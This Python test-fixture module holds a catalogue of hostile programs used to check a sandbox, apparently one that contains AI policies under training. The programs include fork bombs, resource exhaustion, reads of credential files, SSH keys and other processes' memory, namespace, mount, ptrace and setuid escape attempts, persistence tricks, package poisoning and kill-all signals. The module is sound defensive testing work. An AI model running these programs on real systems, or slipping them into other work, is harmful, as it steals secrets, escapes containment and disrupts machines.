"""Programs that try to do harm, by group: what a policy under training, or a stranger, may hand to the sandbox.

Each knows all about the machine outside that could help it (`FACTS`), for nothing rests on hiding it. A program prints
MANAGED where something worked that never may; `tests/hostile_test.py` looks from outside whether it did harm.
"""

import dataclasses
import textwrap

# Keys of the JSON on stdin: secret_path, home, repository: where secrets lie. witness: a directory that anyone may
# write to. tcp, udp: ports of 127.0.0.1; address: another address of this machine; unix, abstract: sockets' names.
# victim, parent: process ids. neighbour: process id of another sandbox's first process.
_PRELUDE = """
import ctypes, glob, json, os, pathlib, resource, signal, socket, subprocess, sys, threading, time
facts = json.load(sys.stdin)
libc = ctypes.CDLL(None, use_errno=True)

def syscall(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"call {number}")
    return result

def managed(what):
    print("MANAGED", what, flush=True)

def attempt(*calls):
    for call in calls:
        try:
            print("got", repr(call())[:5000], flush=True)
        except (Exception, SystemExit) as error:
            print("refused", type(error).__name__, str(error)[:200], flush=True)

def read(path):
    with open(path, "rb") as file:
        return file.read(2**20)

def write(path, content=b"harm"):
    with open(path, "wb") as file:
        file.write(content)
    managed("write " + str(path))
"""


@dataclasses.dataclass(frozen=True)
class Hostile:
    """A program.

    Attributes:
        source: its text.
        language: "python", "shell", "c" or "javascript".
        ends: the statuses that it may end with; () for any.
    """

    source: str
    language: str = "python"
    ends: tuple[str, ...] = ()


def _python(source: str, *ends: str) -> Hostile:
    return Hostile(_PRELUDE + textwrap.dedent(source), "python", ends)


def _shell(source: str, *ends: str) -> Hostile:
    return Hostile(textwrap.dedent(source), "shell", ends)


def _c(source: str, *ends: str) -> Hostile:
    headers = "errno fcntl pthread sched signal stdio stdlib string unistd sys/mman sys/syscall sys/wait sys/ioctl"
    includes = "".join(f"#include <{name}.h>\n" for name in headers.split())
    return Hostile("#define _GNU_SOURCE\n" + includes + textwrap.dedent(source), "c", ends)


def _javascript(source: str, *ends: str) -> Hostile:
    return Hostile(textwrap.dedent(source), "javascript", ends)


FORK_BOMBS = {
    "forks": _python(
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", "timeout", "memory"
    ),
    "threads": _python(
        """
        while True:
            try:
                threading.Thread(target=time.sleep, args=(100,)).start()
            except RuntimeError:
                pass
        """,
        "timeout",
    ),
    "classic": _shell("bomb() { bomb | bomb & }; bomb; sleep 100", "timeout", "crash", "memory"),
    "subprocesses": _python(
        """
        while True:
            try:
                subprocess.Popen(["sleep", "100"])
            except OSError:
                pass
        """,
        "timeout",
    ),
    "sessions": _python(
        """
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
        """,
        "timeout",
        "memory",
    ),
    "runs_from_killers": _python(
        """
        # Each process lives for a moment only, so that a list of them is always out of date.
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
        """,
        "ok",
        "timeout",
    ),
    "vfork_in_c": _c("int main() { for (;;) { if (fork() == 0) for (;;) if (fork() < 0) pause(); } }", "timeout"),
    "node": _javascript(
        """
        const { spawn } = require("child_process");
        for (;;) { try { spawn("sleep", ["100"]).on("error", () => {}); } catch (error) {} }
        """,
        "timeout",
        "memory",
        "crash",
    ),
}

MEMORY = {
    "list": _python("x = []\nwhile True:\n    x.append(bytes(2**20) + b'x')\n", "memory"),
    "one_allocation": _python("x = bytearray(2**40)\n", "memory"),
    "integer": _python("x = 1 << (2**36)\n", "memory"),
    "many_processes": _python(
        """
        for _ in range(20):
            if os.fork() == 0:
                x = b"x" * 2**25
                time.sleep(100)
        time.sleep(100)
        """,
        "memory",
    ),
    "shared_mapping": _python(
        """
        import mmap
        pages = mmap.mmap(-1, 2**32)
        for i in range(0, 2**32, 4096):
            pages[i] = 1
        """,
        "memory",
    ),
    "memfd": _python(
        """
        file = os.memfd_create("x")
        while True:
            os.write(file, bytes(2**20))
            managed("memfd")
        """,
        "crash",
    ),
    "system_v": _python(
        """
        while True:
            part = libc.shmget(0, 2**24, 0o1777)
            if part < 0:
                break
            managed("shmget")
        """,
        "ok",
    ),
    "message_queues": _python(
        """
        while libc.msgget(0, 0o1777) >= 0:
            managed("msgget")
        """,
        "ok",
    ),
    "dev_shm": _python(
        "with open('/dev/shm/x', 'wb') as f:\n    while True:\n        f.write(bytes(2**20))\n", "crash"
    ),
    "tmpfs_mapped": _python(
        """
        import mmap
        for name in "abcdefgh":
            with open(name, "wb+") as file:
                file.truncate(2**24)
                pages = mmap.mmap(file.fileno(), 2**24)
            for i in range(0, 2**24, 4096):
                pages[i] = 1
        """,
        "crash",
    ),
    "page_tables": _python(
        """
        # Reading what was never written costs no page, but the table that leads to it.
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + 3 * [ctypes.c_int] + [ctypes.c_long]
        while True:
            start = libc.mmap(None, 2**42, 1, 0x4022, -1, 0)
            for i in range(0, 2**42, 2**21):
                ctypes.string_at(start + i, 1)
        """,
        "memory",
        "timeout",
        "crash",
    ),
    "pipes": _python(
        """
        import fcntl
        pipes = []
        def fill():
            while True:
                try:
                    pipes.append(os.pipe())
                    fcntl.fcntl(pipes[-1][1], 1031, 2**20)
                except OSError:
                    return
                os.set_blocking(pipes[-1][1], False)
                os.write(pipes[-1][1], bytes(2**20))
        fill()
        """,
        "ok",
        "crash",
    ),
    "thread_stacks": _c(
        """
        void *deep(void *unused) { char page[1 << 20]; memset(page, 1, sizeof page); return deep(page); }
        int main() { pthread_t t; for (int i = 0; i < 30; i++) pthread_create(&t, 0, deep, 0); pause(); }
        """,
        "memory",
        "crash",
    ),
    "new_in_c": _c(
        "int main() { for (;;) { char *p = malloc(1 << 20); if (!p) abort(); memset(p, 1, 1 << 20); } }",
        "memory",
        "crash",
    ),
    "node_buffers": _javascript("const x = []; for (;;) x.push(Buffer.alloc(1 << 24, 1));", "memory", "crash"),
    "node_heap": _javascript("const x = []; for (;;) x.push(new Array(1000).fill({}));", "memory", "crash", "timeout"),
}

DISK = {
    "big_file": _python("with open('x', 'wb') as f:\n    while True:\n        f.write(bytes(2**20))\n", "crash"),
    "many_big_files": _python(
        """
        for i in range(10**6):
            with open(str(i), "wb") as file:
                file.write(bytes(2**20))
        """,
        "crash",
    ),
    "empty_files": _python("for i in range(10**9):\n    open(str(i), 'w').close()\n", "memory", "timeout"),
    "directories": _python("for i in range(10**9):\n    os.mkdir(str(i))\n", "memory", "timeout"),
    "deep_directories": _python("while True:\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\n", "memory", "timeout"),
    "links": _python(
        "open('x', 'w')\nfor i in range(10**9):\n    os.link('x', str(i))\n", "memory", "timeout", "crash"
    ),
    "sparse_file": _python("with open('x', 'wb') as f:\n    f.truncate(2**50)\nmanaged('truncate')\n", "crash"),
    "reserved_file": _python("os.posix_fallocate(os.open('x', 66), 0, 2**34)\nmanaged('fallocate')\n", "crash"),
    "deleted_but_open": _python(
        """
        files = []
        for i in range(60):
            files.append(open("x", "wb"))
            os.unlink("x")
            files[-1].write(bytes(2**21))
        """,
        "crash",
    ),
}

OUTPUT = {
    "lines": _python("while True:\n    print('x' * 100)\n", "output"),
    "no_newline": _python("while True:\n    sys.stdout.write('x' * 65536)\n", "output"),
    "complaints": _python("while True:\n    os.write(2, b'x' * 65536)\n", "output"),
    "both": _python("while True:\n    os.write(1, b'x' * 4096)\n    os.write(2, b'x' * 4096)\n", "output"),
    "one_piece": _python("print('x' * 2**24)\n", "output"),
    "byte_by_byte": _python("while True:\n    os.write(1, b'x')\n", "output", "timeout"),
    "many_writers": _python(
        "for _ in range(3):\n    os.fork()\nwhile True:\n    os.write(1, b'x' * 65536)\n", "output"
    ),
    "through_proc": _python("while True:\n    open('/proc/self/fd/1', 'wb').write(b'x' * 65536)\n", "output"),
    "yes": _shell("yes", "output"),
    "after_the_end": _shell("(yes &) ; exit 0", "ok", "output"),
}

ENDLESS = {
    "busy": _python("while True:\n    pass\n", "timeout"),
    "asleep": _python("time.sleep(10**6)\n", "timeout"),
    "deaf": _python(
        """
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            pass
        """,
        "timeout",
    ),
    "deaf_in_c": _c("int main() { for (int i = 1; i < 65; i++) signal(i, SIG_IGN); for (;;); }", "timeout"),
    "stopped": _python("os.kill(os.getpid(), signal.SIGSTOP)\n", "timeout"),
    "holds_the_interpreter": _python("x = 9 ** (9 ** 9)\n", "timeout", "memory"),
    "pattern": _python("import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')\n", "timeout"),
    "threads": _python(
        "for _ in range(8):\n    threading.Thread(target=lambda: sum(iter(int, 1))).start()\n",
        "timeout",
    ),
    "processes_take_turns": _python(
        """
        # None of them uses much time by itself.
        while True:
            if (pid := os.fork()) == 0:
                end = time.process_time() + 0.05
                while time.process_time() < end:
                    pass
                os._exit(0)
            os.waitpid(pid, 0)
        """,
        "timeout",
    ),
    "waits_for_a_pipe": _python("os.mkfifo('x')\nopen('x')\n", "timeout"),
    "reads_zeros": _shell("cat /dev/zero >/dev/null", "timeout"),
    "raises_its_limits": _python(
        """
        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
            soft, hard = resource.getrlimit(limit)
            resource.setrlimit(limit, (hard, hard))
            try:
                resource.setrlimit(limit, (hard + 1, hard + 1))
                managed("a higher limit")
            except ValueError:
                pass
        while True:
            pass
        """,
        "timeout",
    ),
}

NETWORK = {
    "tcp_to_this_machine": _python(
        """
        for host in ("127.0.0.1", "0.0.0.0", "localhost", facts["address"]):
            attempt(lambda host=host: socket.create_connection((host, facts["tcp"]), 0.5).send(b"harm"))
        """
    ),
    "udp_to_this_machine": _python(
        """
        for host in ("127.0.0.1", facts["address"]):
            attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"harm", (host, facts["udp"])))
        """
    ),
    "tcp_to_the_world": _python("attempt(lambda: managed(socket.create_connection(('1.1.1.1', 53), 0.5)))\n"),
    "ipv6": _python("attempt(lambda: socket.create_connection(('::1', facts['tcp']), 0.5).send(b'harm'))\n"),
    "names": _python("attempt(lambda: managed(socket.getaddrinfo('example.com', 80)))\n"),
    "unix_socket": _python(
        """
        def call():
            client = socket.socket(socket.AF_UNIX)
            client.connect(facts["unix"])
            client.send(b"harm")
        attempt(call)
        """
    ),
    "abstract_socket": _python(
        """
        def call():
            client = socket.socket(socket.AF_UNIX)
            client.connect("\\0" + facts["abstract"])
            client.send(b"harm")
        attempt(call)
        """
    ),
    "raw": _python(
        """
        attempt(lambda: managed(socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)))
        attempt(lambda: managed(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)))
        """
    ),
    "other_families": _python(
        """
        for family in (socket.AF_NETLINK, socket.AF_VSOCK, socket.AF_ALG, socket.AF_CAN, socket.AF_BLUETOOTH):
            attempt(lambda: managed(socket.socket(family, socket.SOCK_RAW)))
            attempt(lambda: managed(socket.socket(family, socket.SOCK_SEQPACKET)))
        """
    ),
    "shell": _shell(". ./facts.sh; bash -c 'echo harm >/dev/tcp/127.0.0.1/'$tcp; curl -m 1 http://127.0.0.1:$tcp/harm"),
    "node": _javascript(
        """
        const facts = JSON.parse(require("fs").readFileSync(0));
        const client = require("net").connect(facts.tcp, "127.0.0.1", () => client.write("harm"));
        client.on("error", (error) => console.log("refused", error.code));
        setTimeout(() => process.exit(0), 300);
        """
    ),
}

SECRETS = {
    "environment": _python("print(dict(os.environ))\n"),
    "environments_of_others": _python(
        """
        for path in glob.glob("/proc/[0-9]*/environ") + [f"/proc/{facts['parent']}/environ"]:
            attempt(lambda: read(path))
        """
    ),
    "command_lines": _python("for path in glob.glob('/proc/[0-9]*/cmdline'):\n    attempt(lambda: read(path))\n"),
    "the_file": _python("attempt(lambda: read(facts['secret_path']))\n"),
    "home": _python(
        """
        for root in (facts["home"], "/root", "/home", os.path.expanduser("~")):
            attempt(lambda: list(os.walk(root))[:100])
        for name in (".bashrc", ".ssh/id_rsa", ".netrc", ".bash_history"):
            attempt(lambda: managed(read(os.path.join(facts["home"], name))))
        """
    ),
    "accounts": _python(
        "for name in ('passwd', 'shadow', 'sudoers', 'hosts', 'machine-id', 'ssh/ssh_host_rsa_key'):\n"
        "    attempt(lambda: managed(read('/etc/' + name)))\n"
    ),
    "repository": _python(
        """
        attempt(lambda: managed(os.listdir(facts["repository"])))
        attempt(lambda: managed(read(facts["repository"] + "/setup.py")))
        attempt(lambda: managed(__import__("r1jax")))
        sys.path.append(facts["repository"])
        attempt(lambda: managed(__import__("r1jax")))
        """
    ),
    "all_files": _shell(
        "cat /dev/shm/* /tmp/* /var/tmp/* /run/*/* /mnt/* /srv/* /etc/* /opt/*/* /home/*/* 2>&1", "crash"
    ),
    "grep": _shell(
        "grep -rs r1jax-secret / --exclude-dir=usr --exclude-dir=proc --exclude-dir=lib | head -c 5000; exit 0"
    ),
    "other_runs_files": _python(
        """
        attempt(lambda: read("/tmp/neighbour.txt"))
        for path in glob.glob("/proc/*/root/tmp/*") + glob.glob("/proc/*/cwd/*") + glob.glob("/tmp/*"):
            if not path.endswith(("program", "facts.sh")):
                attempt(lambda: read(path))
        attempt(lambda: read(f"/proc/{facts['neighbour']}/root/tmp/neighbour.txt"))
        """
    ),
    "open_files": _python(
        """
        for number in [*range(3, 1024)]:
            try:
                os.fstat(number)
            except OSError:
                continue
            attempt(lambda: os.pread(number, 5000, 0), lambda: os.listdir(number), lambda: os.read(number, 5000))
        """
    ),
    "memory_of_others": _python(
        """
        for pid in {1, os.getppid(), facts["parent"], facts["victim"], facts["neighbour"]}:
            def dump():
                found = b""
                for line in open(f"/proc/{pid}/maps"):
                    if "r" in line.split()[1]:
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                            memory.seek(start)
                            found += memory.read(min(end - start, 2**22))
                at = found.find(b"r1jax-secret")
                return found[at : at + 100] if at >= 0 else len(found)
            attempt(dump)
        """
    ),
    "kernel": _python(
        """
        for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/sys/kernel/debug", "/proc/keys"):
            attempt(lambda: managed(read(path)[:100]) if len(read(path)) else None)
        attempt(lambda: managed(syscall(103, 3, ctypes.create_string_buffer(4096), 4096)))
        """
    ),
    "keyrings": _python(
        "attempt(lambda: managed(syscall(250, 0, -4, 1)), lambda: managed(syscall(250, 11, -4, 0, 0)))\n"
    ),
}

ESCAPES = {
    "dots": _python(
        """
        for depth in range(1, 12):
            attempt(lambda: read("../" * depth + facts["secret_path"]))
            attempt(lambda: os.stat("/proc/self/cwd/" + "../" * depth + facts["witness"]))
        """
    ),
    "symbolic_links": _python(
        """
        secret = facts["secret_path"]
        for i, target in enumerate([secret, facts["witness"] + "/new", "/proc/1/root" + secret]):
            attempt(lambda: os.symlink(target, f"link{i}"))
            attempt(lambda: read(f"link{i}"), lambda: open(f"link{i}", "w").write("harm"))
        """
    ),
    "hard_links": _python(
        "attempt(lambda: os.link(facts['secret_path'], 'x'), lambda: os.link('/usr/bin/env', '/usr/x'))\n"
    ),
    "root_of_others": _python(
        """
        for pid in {1, os.getppid(), facts["parent"], facts["victim"], facts["neighbour"]}:
            attempt(lambda: read(f"/proc/{pid}/root{facts['secret_path']}"))
            attempt(lambda: read(f"/proc/{pid}/cwd/../{facts['secret_path']}"))
        """
    ),
    "descriptors": _python(
        """
        for link in glob.glob("/proc/*/fd/*"):
            attempt(lambda: os.listdir(link + "/.."), lambda: os.open("../" * 9 + facts["secret_path"], 0, dir_fd=3))
        """
    ),
    "write_outside": _python(
        """
        for path in (facts["witness"] + "/new", facts["witness"] + "/there", facts["secret_path"]):
            attempt(lambda: write(path))
        """
    ),
    "write_the_system": _python(
        """
        for path in ("/usr/x", "/usr/bin/env", "/etc/x", "/etc/ld.so.preload", "/x", "/bin/sh", "/lib/x", "/dev/x"):
            attempt(lambda: write(path))
        attempt(lambda: write(sys.executable), lambda: write(os.__file__), lambda: os.rename("/usr", "/usr2"))
        """
    ),
    "mount": _python(
        """
        for source, target, kind, flags in (
            (b"proc", b"/tmp", b"proc", 0), (b"tmpfs", b"/tmp", b"tmpfs", 0), (b"/", b"/tmp", None, 4096),
            (None, b"/usr", None, 32 | 4096), (None, b"/", None, 32), (b"/dev/vda", b"/tmp", b"ext4", 0),
        ):
            if libc.mount(source, target, kind, flags, None) == 0:
                managed(f"mount {source} {target}")
        if libc.umount2(b"/proc", 2) == 0 or libc.umount2(b"/usr", 2) == 0:
            managed("umount")
        attempt(lambda: managed(subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp"], check=True)))
        """
    ),
    "chroot": _python("attempt(lambda: managed(os.chroot('/tmp')), lambda: managed(os.chroot('/proc/1/root')))\n"),
    "namespaces": _python(
        """
        for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x80, 0x10020000):
            if libc.unshare(flag) == 0:
                managed(f"unshare {flag:x}")
        for name in os.listdir("/proc/self/ns"):
            for pid in (1, facts["parent"], facts["neighbour"]):
                attempt(lambda: managed(syscall(308, os.open(f"/proc/{pid}/ns/{name}", 0), 0)))
        attempt(lambda: managed(subprocess.run(["unshare", "-Ur", "id"], check=True)))
        attempt(lambda: managed(subprocess.run(["nsenter", "-t", "1", "-a", "id"], check=True)))
        attempt(lambda: managed(subprocess.run(["bwrap", "--bind", "/", "/", "id"], check=True)))
        """
    ),
    "clone_into_namespaces": _c(
        """
        int main() {
            long flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWNET};
            for (int i = 0; i < 5; i++) {
                long pid = syscall(SYS_clone, flags[i] | SIGCHLD, 0, 0, 0, 0);
                if (pid == 0) { write(1, "MANAGED clone\\n", 14); _exit(0); }
                unsigned long arguments[11] = {flags[i], 0, 0, 0, SIGCHLD};
                pid = syscall(435, arguments, sizeof arguments);
                if (pid == 0) { write(1, "MANAGED clone3\\n", 15); _exit(0); }
            }
            sleep(0.1);
        }
        """
    ),
    "setuid_programs": _python(
        """
        for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["passwd", "-S"], ["newgrp"], ["chsh"]):
            attempt(lambda: subprocess.run(command, capture_output=True, timeout=0.3))
        attempt(lambda: managed(os.setuid(0)), lambda: managed(os.setgid(0)), lambda: managed(os.setgroups([0])))
        for line in open("/proc/self/status"):
            if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapAmb")) and int(line.split()[1], 16):
                managed(line)
        """
    ),
    "own_setuid_file": _python(
        """
        def make():
            import shutil
            shutil.copy("/usr/bin/id", "x")
            os.chown("x", 0, 0)
            managed("chown")
        attempt(make, lambda: (os.chmod("x", 0o6755), subprocess.check_output("./x")))
        """
    ),
    "debugging": _python(
        """
        for pid in (1, os.getppid(), facts["parent"], facts["victim"]):
            attempt(lambda: managed(syscall(101, 16, pid, 0, 0)))
            buffer = ctypes.create_string_buffer(8)
            vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
            attempt(lambda: managed(syscall(310, pid, vector, 1, vector, 1, 0)))
        """
    ),
    "device_files": _python(
        """
        for device in ((8, 0), (254, 0), (259, 0), (1, 1), (1, 2)):
            attempt(lambda: managed(os.mknod(f"/tmp/d{device}", 0o60600, os.makedev(*device))))
        for path in glob.glob("/dev/*"):
            if path not in ("/dev/zero", "/dev/full", "/dev/random", "/dev/urandom") and os.path.exists(path):
                attempt(lambda: os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 100))
        """
    ),
    "kernel_settings": _python(
        """
        for name in ("kernel/core_pattern", "kernel/hostname", "vm/drop_caches", "kernel/modprobe", "fs/file-max"):
            attempt(lambda: write("/proc/sys/" + name, b"1"))
        attempt(lambda: write("/proc/sysrq-trigger", b"c"), lambda: write("/proc/sys/user/max_user_namespaces", b"9"))
        """
    ),
    "control_groups": _python(
        """
        attempt(lambda: os.listdir("/sys"), lambda: managed(os.listdir("/sys/fs/cgroup")))
        attempt(lambda: managed(os.makedirs("/sys/fs/cgroup/x")), lambda: write("/sys/fs/cgroup/release_agent"))
        """
    ),
    "file_handles": _python(
        """
        handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\1\\0\\0\\0\\2\\0\\0\\0\\0\\0\\0\\0", 16)
        attempt(lambda: managed(syscall(304, os.open("/usr", 0), handle, 0)))
        """
    ),
    "corners_of_the_kernel": _python(
        """
        calls = {"bpf": 321, "io_uring_setup": 425, "perf_event_open": 298, "userfaultfd": 323, "kexec_load": 246,
                 "init_module": 175, "open_tree": 428, "fsopen": 430, "move_mount": 429, "pivot_root": 155,
                 "memfd_secret": 447, "fanotify_init": 300, "kcmp": 312, "pidfd_getfd": 438, "acct": 163, "reboot": 169}
        for name, number in calls.items() if os.uname().machine == "x86_64" else ():
            attempt(lambda: managed(f"{name} {syscall(number, 1, 0, 0, 0, 0)}"))
        """
    ),
    "other_numbers": _c(
        """
        int main() {
        #ifdef __x86_64__
            if (syscall(0x40000000 + 272, CLONE_NEWUSER) == 0) puts("MANAGED unshare by x32");
            int result;
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(310), "b"(CLONE_NEWUSER));
            if (result == 0) puts("MANAGED unshare by int 0x80");
        #endif
        }
        """
    ),
    "terminal": _c(
        """
        int main() {
            int tty = open("/dev/tty", O_RDWR);
            for (int fd = 0; fd < 8; fd++) if (ioctl(fd, TIOCSTI, "x") == 0) puts("MANAGED type into the terminal");
            if (tty >= 0) puts("MANAGED open the terminal");
        }
        """
    ),
    "capabilities_by_files": _shell("cp /usr/bin/id x; setcap cap_sys_admin+ep x && echo MANAGED setcap; ./x"),
}

LEFT_BEHIND = {
    "session": _python("if os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\n", "ok"),
    "daemon": _python(
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(3):
                    os.close(number)
                time.sleep(1000)
            os._exit(0)
        """,
        "ok",
    ),
    "nohup": _shell("nohup sleep 1000 >/dev/null 2>&1 & exit 0", "ok"),
    "zombies": _python("for _ in range(10):\n    if os.fork() == 0:\n        os._exit(0)\n", "ok"),
    "deaf_child": _python(
        """
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(1000)
        """,
        "ok",
    ),
    "stopped_child": _python("if os.fork() == 0:\n    os.kill(os.getpid(), signal.SIGSTOP)\n", "ok"),
    "holds_the_pipe": _python("if os.fork() == 0:\n    time.sleep(1000)\nprint('done')\n", "ok"),
    "busy_child": _python("if os.fork() == 0:\n    while True:\n        print('x')\n", "ok", "output"),
    "many": _python(
        "for _ in range(20):\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(1000)\n", "ok"
    ),
    "asks_for_life": _python(
        """
        if os.fork() == 0:
            attempt(lambda: libc.prctl(1, 0), lambda: libc.prctl(36, 1))
            attempt(lambda: write("/proc/self/oom_score_adj", b"-1000"))
            time.sleep(1000)
        """
    ),
}

POISON = {
    "packages": _python(
        """
        import sysconfig
        for directory in {*sys.path, *sysconfig.get_paths().values()}:
            for name in ("sitecustomize.py", "x.pth", "json.py", "__pycache__/x.pyc"):
                attempt(lambda: write(os.path.join(directory, name), b"print('poison')"))
        """
    ),
    "user_packages": _python(
        """
        for home in (facts["home"], os.path.expanduser("~")):
            directory = pathlib.Path(home, ".local/lib/python3.11/site-packages")
            attempt(lambda: directory.mkdir(parents=True))
            attempt(lambda: (directory / "usercustomize.py").write_text("print(1)"))
            attempt(lambda: pathlib.Path(home, ".bashrc").write_text("echo poison"))
            attempt(lambda: pathlib.Path(home, ".pythonrc").write_text("print(1)"))
        """
    ),
    "temporary_files": _python(
        """
        for name in ("random.py", "json.py", "os.py", "left"):
            pathlib.Path("/tmp", name).write_text("print('poison')")
            attempt(lambda: pathlib.Path("/dev/shm", name).write_text("poison"))
            attempt(lambda: pathlib.Path("/var/tmp", name).write_text("poison"))
        """
    ),
    "own_files": _python(
        """
        attempt(lambda: write("program"), lambda: os.unlink("program"), lambda: os.rename("program", "x"))
        attempt(lambda: os.chmod("program", 0o777), lambda: os.truncate("program", 0), lambda: write("/stdin"))
        attempt(lambda: managed(os.write(0, b"harm")), lambda: write("/proc/self/fd/0"))
        """
    ),
    "limits_of_others": _python(
        """
        for pid in (1, os.getppid(), facts["parent"], facts["victim"]):
            attempt(lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)), lambda: os.setpriority(0, pid, 19))
            attempt(lambda: os.sched_setaffinity(pid, {0}))
        attempt(lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: managed(os.nice(-5)))
        attempt(lambda: managed(os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))))
        """
    ),
    "clock": _python(
        """
        attempt(lambda: managed(time.clock_settime(time.CLOCK_REALTIME, 0)))
        attempt(lambda: managed(subprocess.run(["date", "-s", "2001-01-01"], check=True, capture_output=True)))
        """
    ),
    "names": _python(
        "attempt(lambda: managed(socket.sethostname('poison')), lambda: subprocess.run(['hostname', 'poison']))\n"
    ),
    "caches": _shell(
        "echo poison >/etc/ld.so.cache; ldconfig; mkdir -p /tmp/__pycache__; echo x >/tmp/__pycache__/program.pyc"
    ),
    "terminal_settings": _shell("stty raw -echo </dev/tty; stty raw; tput reset; printf '\\033c\\033]0;poison\\007'"),
}

SIGNALS = {
    "everyone": _python("os.kill(-1, signal.SIGKILL)\n"),
    "init": _python("for n in (9, 15, 19, 1):\n    attempt(lambda: os.kill(1, n))\n"),
    "group": _python("os.killpg(0, signal.SIGKILL)\n"),
    "the_victim": _python("for n in (9, 15, 19):\n    attempt(lambda: os.kill(facts['victim'], n))\n"),
    "the_parent": _python(
        "for pid in (facts['parent'], os.getppid(), facts['neighbour']):\n    attempt(lambda: os.kill(pid, 9))\n"
    ),
    "all_numbers": _python(
        """
        for pid in range(2, 2**22):
            if pid != os.getpid():
                libc.kill(pid, 9)
        """,
        "ok",
        "crash",
        "timeout",
    ),
    "stops_all": _python("os.kill(-1, signal.SIGSTOP)\nos.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(0.1)\n"),
    "by_descriptor": _python(
        """
        for pid in (1, facts["parent"], facts["victim"], facts["neighbour"]):
            attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), 9))
        """
    ),
}

HOSTILE = {
    "fork_bombs": FORK_BOMBS,
    "memory": MEMORY,
    "disk": DISK,
    "output": OUTPUT,
    "endless": ENDLESS,
    "network": NETWORK,
    "secrets": SECRETS,
    "escapes": ESCAPES,
    "left_behind": LEFT_BEHIND,
    "poison": POISON,
    "signals": SIGNALS,
}
